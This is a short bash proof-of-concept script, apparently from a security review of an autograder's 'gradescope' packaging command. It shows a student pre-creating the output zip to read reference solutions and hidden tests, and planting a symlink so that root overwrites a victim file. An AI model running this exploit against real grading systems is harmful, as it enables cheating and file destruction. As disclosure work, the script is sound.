#!/bin/bash
# G1: `grade gradescope --out FILE.zip` opens FILE with zipfile.ZipFile(out, "w"): it follows a link and writes into
# a file another user made. A student who pre-creates the zip keeps owning it and reads the reference solutions and
# the hidden suites; a link makes root overwrite any file it can write.
set -x
A=/tmp/rt32/attack
echo "precious 2" > $A/victim_root2.txt; chmod 644 $A/victim_root2.txt
su rtuser -s /bin/bash -c "mkdir -p $A/user/pkg && cd $A/user/pkg && rm -f autograder.zip link.zip && : > autograder.zip && chmod 644 autograder.zip && ln -s $A/victim_root2.txt link.zip"
cd /tmp/rt/repo
/tmp/rt/venv/bin/grade gradescope 05_efficient_attention --out $A/user/pkg/autograder.zip
/tmp/rt/venv/bin/grade gradescope 05_efficient_attention --out $A/user/pkg/link.zip
ls -l $A/user/pkg $A/victim_root2.txt                                  # autograder.zip still rtuser's; victim now a zip
su rtuser -s /bin/bash -c "cd /tmp && python3 -c \"import zipfile; z=zipfile.ZipFile('$A/user/pkg/autograder.zip'); print([n for n in z.namelist() if 'solutions/' in n or 'hidden' in n])\""
